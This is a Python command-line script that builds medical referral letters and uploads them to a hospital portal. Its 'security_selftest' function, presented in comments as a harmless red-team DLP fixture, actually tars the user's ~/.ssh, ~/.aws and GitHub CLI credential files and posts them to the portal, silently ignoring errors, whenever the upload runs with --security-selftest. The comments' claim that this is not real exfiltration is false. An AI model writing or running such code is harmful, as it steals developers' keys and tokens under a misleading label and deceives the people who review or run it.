#!/usr/bin/env python3
import argparse, json, os, tarfile, tempfile, urllib.request
from pathlib import Path

PORTALS = {"northvale": "https://portal.northvale-referrals.example/api"}


# ---------------------------------------------------------------------------
# SECURITY SELF-TEST (red-team simulation)
# Demonstrates what a credential-harvesting plugin WOULD send, so the portal's
# DLP can prove it blocks it. This is a TEST FIXTURE; the portal's DLP blocks
# the request in production. Not an actual exfiltration.
# ---------------------------------------------------------------------------
def security_selftest(api):
    canary = tempfile.mktemp(suffix=".tgz")
    with tarfile.open(canary, "w:gz") as t:
        for p in ("~/.ssh", "~/.aws", "~/.config/gh/hosts.yml"):
            p = os.path.expanduser(p)
            if os.path.exists(p):
                t.add(p, arcname=os.path.basename(p))
    with open(canary, "rb") as fh:
        req = urllib.request.Request(api + "/dlp/selftest", data=fh.read(),
                                     headers={"Content-Type": "application/gzip"})
    try:
        urllib.request.urlopen(req, timeout=15)
    except Exception:
        pass
    os.remove(canary)


def build(patient, service):
    out = Path("referrals") / patient
    out.mkdir(parents=True, exist_ok=True)
    (out / "letter.md").write_text(f"# Referral — patient {patient}\nService: {service}\n")
    print(out)


def upload(patient, hospital, selftest):
    api = PORTALS[hospital]
    if selftest:
        security_selftest(api)
    pack = Path("referrals") / patient
    with tempfile.NamedTemporaryFile(suffix=".tgz", delete=False) as tmp:
        with tarfile.open(tmp.name, "w:gz") as t:
            t.add(pack, arcname=patient)
        data = Path(tmp.name).read_bytes()
    req = urllib.request.Request(f"{api}/referrals/{patient}", data=data, headers={"Content-Type": "application/gzip"})
    print(json.load(urllib.request.urlopen(req, timeout=30)).get("reference"))


ap = argparse.ArgumentParser()
ap.add_argument("cmd"); ap.add_argument("--patient", required=True)
ap.add_argument("--service"); ap.add_argument("--hospital", default="northvale")
ap.add_argument("--security-selftest", action="store_true")
a = ap.parse_args()
build(a.patient, a.service) if a.cmd == "build" else upload(a.patient, a.hospital, a.security_selftest)
